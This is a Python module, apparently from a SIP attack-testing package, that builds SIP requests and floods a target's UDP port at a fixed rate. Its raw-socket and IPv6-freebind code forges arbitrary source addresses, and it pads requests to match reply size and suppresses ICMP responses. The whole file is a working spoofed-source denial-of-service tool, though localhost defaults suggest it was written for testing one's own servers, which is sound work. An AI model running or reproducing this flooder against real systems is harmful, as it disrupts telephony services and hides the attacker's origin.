"""Datagrams of an attacker: SIP requests built in advance, sent at a steady rate, from any source address."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
import struct
import time
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from typing import Final

from hostile.attack import DOMAIN, Report, Target

HOLE: Final = "127.0.0.2"
"""Address on the attacker's own host where everything is discarded."""

HOLE_IPV6: Final = "::1"

FROM_PORT: Final = 4060
PADDING: Final = f"User-Agent: {'stranger ' * 40}"
"""A header field that makes a request as large as its challenge: servers give no larger answer over UDP."""

HEADERS_BYTES: Final = 28
"""IPv4 and UDP headers of a datagram."""

TICK_S: Final = 0.004
_UDP: Final = 17
_IPV6_FREEBIND: Final = 78
"""Option of Linux, which the module ``socket`` does not name: bind to an address that no interface has."""

_BUFFER_BYTES: Final = 4_096

Make = Callable[[int], bytes]
"""Return datagram number N."""


def request(
    method: str,
    uri: str,
    *,
    via: str,
    number: int,
    user: str = "stranger",
    headers: Sequence[str] = (),
    body: bytes = b"",
) -> bytes:
    """Return a SIP request that is well-formed; ``number`` makes branch, tag and Call-ID its own."""
    lines = [
        f"{method} {uri} SIP/2.0",
        f"Via: SIP/2.0/UDP {via};branch=z9hG4bK{number:x}h;rport",
        "Max-Forwards: 70",
        f"From: <sip:{user}@{DOMAIN}>;tag=t{number:x}",
        f"To: <{uri if method != 'REGISTER' else f'sip:{user}@{DOMAIN}'}>",
        f"Call-ID: {number:x}@{via.partition(':')[0]}",
        f"CSeq: 1 {method}",
        *headers,
        f"Content-Length: {len(body)}",
    ]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


async def flood(
    target: Target, port: int, make: Make, per_s: float, *, sources: Sequence[str] = (), from_port: int = FROM_PORT
) -> Report:
    """Send ``per_s`` datagrams a second to ``port`` for ``target.seconds``, from ``sources`` in turn.

    Responses arrive at a socket that nobody reads, so that the attacker's host sends no ICMP in return.
    """
    sent = sent_bytes = 0
    numbers = itertools.count(time.monotonic_ns() & 0xFFFF_FFFF_0000)
    sender = _ipv6_sender if ":" in target.server else _sender
    with sender(target.server, port, sources, from_port) as send:
        async for count in ticks(per_s, target.seconds):
            for _ in range(count):
                datagram = make(next(numbers))
                if send(datagram):
                    sent += 1
                    sent_bytes += HEADERS_BYTES + len(datagram)
    return {"sent": sent, "sent_bytes": sent_bytes, "sent_per_s": sent / target.seconds}


async def ticks(per_s: float, seconds: float) -> AsyncIterator[int]:
    """Yield every few milliseconds how many are due; delays of more than 50 ms are not made up for."""
    began_s = time.monotonic()
    done = 0
    while (elapsed_s := time.monotonic() - began_s) < seconds:
        due = int(elapsed_s * per_s)
        done = max(done, due - max(1, int(per_s * 0.05)))
        if due > done:
            yield due - done
        done = due
        await asyncio.sleep(TICK_S)


@contextlib.contextmanager
def _ipv6_sender(server: str, port: int, sources: Sequence[str], from_port: int) -> Iterator[Callable[[bytes], bool]]:
    """Send from one socket for each source: a raw socket would have to compute checksums."""
    with contextlib.ExitStack() as stack:
        senders = []
        for source in sources:
            sender = stack.enter_context(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER_BYTES)
            sender.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
            sender.bind((source, from_port))
            senders.append(sender)
        if server == HOLE_IPV6:
            stack.enter_context(hole_at(port, server))
        turn = itertools.cycle(senders)
        yield lambda datagram: _try(lambda: next(turn).sendto(datagram, (server, port)))


@contextlib.contextmanager
def _sender(server: str, port: int, sources: Sequence[str], from_port: int) -> Iterator[Callable[[bytes], bool]]:
    with socket.socket(type=socket.SOCK_DGRAM) as unread, contextlib.ExitStack() as stack:
        unread.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER_BYTES)
        unread.bind(("0.0.0.0", from_port))
        if server == HOLE:
            stack.enter_context(hole_at(port))
        if not sources:
            yield lambda datagram: _try(lambda: unread.sendto(datagram, (server, port)))
            return
        raw = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
        turn = itertools.cycle([socket.inet_aton(source) for source in sources])
        to = socket.inet_aton(server)
        yield lambda datagram: _try(lambda: raw.sendto(packet(datagram, next(turn), from_port, to, port), (server, 0)))


def packet(payload: bytes, source: bytes, from_port: int, to: bytes, port: int) -> bytes:
    """Return an IPv4 packet with a UDP datagram; the kernel fills in length, id and checksum of its header."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, _UDP, 0, source, to)
    return header + struct.pack("!HHHH", from_port, port, 8 + len(payload), 0) + payload


@contextlib.contextmanager
def hole_at(port: int, address: str = HOLE) -> Iterator[socket.socket]:
    """Hold a socket at ``port`` that nobody reads: its buffer is soon full, and the kernel discards the rest."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as hole:
        hole.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        hole.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER_BYTES)
        hole.bind((address, port))
        yield hole


def _try(send: Callable[[], object]) -> bool:
    try:
        send()
    except OSError:  # a full buffer: only what was sent counts
        return False
    return True
